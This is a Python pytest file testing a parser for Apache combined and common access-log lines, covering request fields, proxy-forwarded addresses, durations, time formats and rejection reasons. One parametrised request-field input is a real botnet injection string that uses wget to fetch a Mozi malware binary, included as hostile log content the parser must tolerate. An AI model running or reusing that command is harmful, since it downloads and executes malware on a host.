"""The combined family, line by line."""

from typing import Any

import pytest

from jobs.access_logs.combined import CombinedReader, Head, read_head
from jobs.access_logs.rows import Line

READER = CombinedReader()
AT = 971_211_336_000_000  # 10/Oct/2000:13:55:36 -0700
TIME = b"[10/Oct/2000:13:55:36 -0700]"
OURS = b" 1790856000123456 1834 p_3f2a9c0d51e87b64 01999c7e-5a40-7c3d-9f10-3b7f6e0a1c22 DE"


def _read(line: bytes, **settings: Any) -> Line:
    found = CombinedReader(**settings).read(line)
    assert isinstance(found, Line), found
    return found


def test_a_combined_line_is_read_field_by_field() -> None:
    line = (
        b"203.0.113.7 - frank " + TIME + b' "GET /a/b.gif?x=1&y=2 HTTP/1.0" 200 2326 "http://e.com/" "Moz/4"'
    )
    assert READER.read(line) == Line(
        at=AT,
        address=b"203.0.113.7",
        method=b"GET",
        path=b"/a/b.gif",
        query=b"x=1&y=2",
        status=200,
        bytes_sent=2326,
        referrer=b"http://e.com/",
        user_agent=b"Moz/4",
        user=b"frank",
    )


def test_a_common_line_lacks_referrer_and_user_agent() -> None:
    line = _read(b"h - - " + TIME + b' "GET / HTTP/1.0" 404 -')
    assert (line.referrer, line.user_agent, line.bytes_sent) == (None, None, None)


@pytest.mark.parametrize(
    ("request_field", "method", "path", "query"),
    [
        (b"-", None, None, None),
        (b"", None, None, None),
        (b"\\x16\\x03\\x01\\x02", None, None, None),
        (b"\x16\x03\x01\xff\x00", None, None, None),
        (b"GET /a b c HTTP/1.1", b"GET", b"/a b c", None),
        (b'GET /say?q=\\"hi\\" HTTP/1.1', b"GET", b"/say", b'q=\\"hi\\"'),
        (b'GET /"raw" quotes" HTTP/1.1', b"GET", b'/"raw" quotes"', None),
        (b"GET /ksc.html", b"GET", b"/ksc.html", None),
        (b"GET http://proxied.example:8080/x?y HTTP/1.1", b"GET", b"/x", b"y"),
        (b"OPTIONS * HTTP/1.0", b"OPTIONS", b"*", None),
        (b"GET /? HTTP/1.1", b"GET", b"/", None),
        (b"GET /a?b?c HTTP/2", b"GET", b"/a", b"b?c"),
        (b"27;wget%20http://%s:%d/Mozi.m HTTP/1.0", None, None, None),
        (b"quit", None, None, None),
        (b"GET  HTTP/1.1", b"GET", None, None),
    ],
)
def test_whatever_the_request_field_holds_the_other_fields_are_read(
    request_field: bytes, method: bytes | None, path: bytes | None, query: bytes | None
) -> None:
    line = _read(b"h - - " + TIME + b' "' + request_field + b'" 400 12 "-" "ua"')
    assert (line.method, line.path, line.query) == (method, path, query)
    assert (line.at, line.status, line.bytes_sent, line.referrer, line.user_agent) == (
        AT,
        400,
        12,
        b"-",
        b"ua",
    )


@pytest.mark.parametrize(
    ("prefix", "head"),
    [
        (b"203.0.113.7 - -", Head(b"203.0.113.7", None, None, None)),
        (b"unicomp6.unicomp.net - -", Head(b"unicomp6.unicomp.net", None, None, None)),
        (b"2001:db8::1 - jo", Head(b"2001:db8::1", None, b"jo", None)),
        (b"h - John Smith", Head(b"h", None, b"John Smith", None)),
        (b"e.com 203.0.113.7 - jo", Head(b"203.0.113.7", b"e.com", b"jo", None)),
        (b"E.com:443 203.0.113.7 - -", Head(b"203.0.113.7", b"e.com", None, None)),
        (b"e.com client.example - jo", Head(b"client.example", b"e.com", b"jo", None)),
        (b"e.com 203.0.113.7 jo", Head(b"203.0.113.7", b"e.com", b"jo", None)),
        (b"e.com 203.0.113.7", Head(b"203.0.113.7", b"e.com", None, None)),
        (b"203.0.113.7 www.e.com jo", Head(b"203.0.113.7", b"www.e.com", b"jo", None)),
        (
            b"10.0.0.2, 10.0.0.1, 127.0.0.1 - -",
            Head(b"10.0.0.2", None, None, b"10.0.0.2, 10.0.0.1, 127.0.0.1"),
        ),
        (b"2a03::8000, 10.1.1.1 10.2.2.121 - -", Head(b"10.2.2.121", None, None, b"2a03::8000, 10.1.1.1")),
        (
            b'"203.0.113.7, 10.1.1.1" 10.2.1.185 - -',
            Head(b"10.2.1.185", None, None, b"203.0.113.7, 10.1.1.1"),
        ),
        (b'"-" 10.2.1.185 - -', Head(b"10.2.1.185", None, None, None)),
        (b"203.0.113.7 10.2.2.121 - -", Head(b"10.2.2.121", None, None, b"203.0.113.7")),
        (b"203.0.113.7", None),
        (b'h - "jo', None),
    ],
)
def test_host_client_and_user_are_told_apart_by_their_form(prefix: bytes, head: Head | None) -> None:
    assert read_head(prefix) == head


@pytest.mark.parametrize(
    ("proxies", "client"), [(0, b"10.0.0.9"), (1, b"10.0.0.1"), (2, b"203.0.113.7"), (9, b"198.51.100.1")]
)
def test_the_client_is_the_nth_forwarded_address_from_the_right(proxies: int, client: bytes) -> None:
    forwarded = b"198.51.100.1, 203.0.113.7, 10.0.0.1"
    after = b"10.0.0.9 - - " + TIME + b' "GET / HTTP/1.1" 200 5 "-" "ua" "' + forwarded + b'"'
    before = b'"' + forwarded + b'" 10.0.0.9 - - ' + TIME + b' "GET / HTTP/1.1" 200 5 "-" "ua"'
    assert _read(after, trusted_proxies=proxies).address == client
    assert _read(before, trusted_proxies=proxies).address == client


def test_a_forwarded_address_where_the_referrer_should_be_is_never_taken_for_one() -> None:
    line = _read(b"10.0.0.9 - - " + TIME + b' "GET / HTTP/1.1" 200 5 "203.0.113.7" "http://e.com/" "ua"')
    assert (line.referrer, line.user_agent) == (b"http://e.com/", b"ua")


@pytest.mark.parametrize(
    ("tail", "micros"),
    [
        (b"", None),
        (b" 0.002", 2_000),
        (b" 1.5 0.9 .", 1_500_000),
        (b" 1807", 1_807),
        (b" -", None),
        (b' "-" 0.25', 250_000),
        (b' 12 "router@file" "http://10.0.0.1:80" 15ms', 15_000),
        (b" word", None),
    ],
)
def test_a_trailing_request_time_is_read_with_its_unit(tail: bytes, micros: int | None) -> None:
    assert _read(b"h - - " + TIME + b' "GET / HTTP/1.1" 200 5 "-" "ua"' + tail).duration_us == micros


def test_a_time_may_be_iso_with_or_without_brackets() -> None:
    rest = b' "GET / HTTP/1.1" 200 5 "-" "ua"'
    assert _read(b"h - - [2000-10-10T13:55:36-07:00]" + rest).at == AT
    assert _read(b"h - - 2000-10-10T20:55:36.5Z" + rest).at == AT + 500_000


def test_the_seconds_of_gandi_between_time_and_request_are_the_duration() -> None:
    assert _read(b"h - - " + TIME + b' (2 s) "GET / HTTP/1.1" 200 5').duration_us == 2_000_000


def test_a_line_in_one_more_pair_of_quotes_is_unwrapped() -> None:
    inner = b"h - - " + TIME + b' "GET / HTTP/1.1" 200 5 "-" "ua"'
    assert READER.read(b'"' + inner + b'"') == READER.read(inner)


def test_escaped_quotes_end_no_field() -> None:
    line = _read(b"h - - " + TIME + rb' "GET / HTTP/1.1" 200 5 "-" "a \"b\" c\\" 0.5')
    assert (line.user_agent, line.duration_us) == (rb"a \"b\" c\\", 500_000)


def test_a_user_agent_that_is_cut_off_is_missing_and_not_shortened() -> None:
    assert _read(b"h - - " + TIME + b' "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0 (comp').user_agent is None


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        (b'h - - [10/Oct/2000:24:55:36 -0700] "GET / HTTP/1.1" 200 5', "no_time"),
        (b'h - - [31/Jun/2000:13:55:36 -0700] "GET / HTTP/1.1" 200 5', "no_time"),
        (b'h - - [-] "GET / HTTP/1.1" 200 5', "no_time"),
        (b'h [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.1" 200 5', "not_in_format"),
        (b'h - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.1" 200', "not_in_format"),
        (b'h - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.1', "not_in_format"),
        (b"h - - [10/Oct/2000:13:55:36 -0700] GET / HTTP/1.1 200 5", "not_in_format"),
        (b"hello", "not_in_format"),
    ],
)
def test_what_is_no_line_of_the_family_is_rejected_with_its_reason(line: bytes, reason: str) -> None:
    assert READER.read(line) == reason


PREFIX = b"203.0.113.7 - - " + TIME + b' "GET /v1/shop HTTP/1.1" 200 512 "https://example.com/" "Mozilla/5.0"'


def test_our_own_fields_give_time_duration_player_request_and_country() -> None:
    line = _read(PREFIX + OURS)
    assert (line.at, line.duration_us, line.authenticated_id, line.request_id, line.country) == (
        1_790_856_000_123_456,
        1_834,
        b"p_3f2a9c0d51e87b64",
        b"01999c7e-5a40-7c3d-9f10-3b7f6e0a1c22",
        b"DE",
    )


def test_a_dash_in_our_fields_is_missing_and_fields_added_later_do_no_harm() -> None:
    line = _read(PREFIX + b" 1790856000123456 - - - - and more")
    assert (line.at, line.duration_us, line.authenticated_id, line.request_id, line.country) == (
        1_790_856_000_123_456,
        None,
        None,
        None,
        None,
    )


@pytest.mark.parametrize("tail", [OURS[:9], OURS[:22], OURS[:-1], b' "x"'])
def test_a_line_of_our_own_server_that_was_cut_short_is_rejected(tail: bytes) -> None:
    assert CombinedReader(needs_ours=True).read(PREFIX + tail) == "missing_fields"


@pytest.mark.parametrize("cut", [1, 12, 20])
def test_a_line_of_our_own_server_that_was_cut_inside_quotes_is_rejected(cut: int) -> None:
    assert CombinedReader(needs_ours=True).read(PREFIX[:-cut]) == "missing_fields"


def test_under_the_name_combined_nothing_is_taken_for_our_fields() -> None:
    line = _read(PREFIX + OURS, has_ours=False)
    assert (line.at, line.authenticated_id, line.request_id) == (AT, None, None)
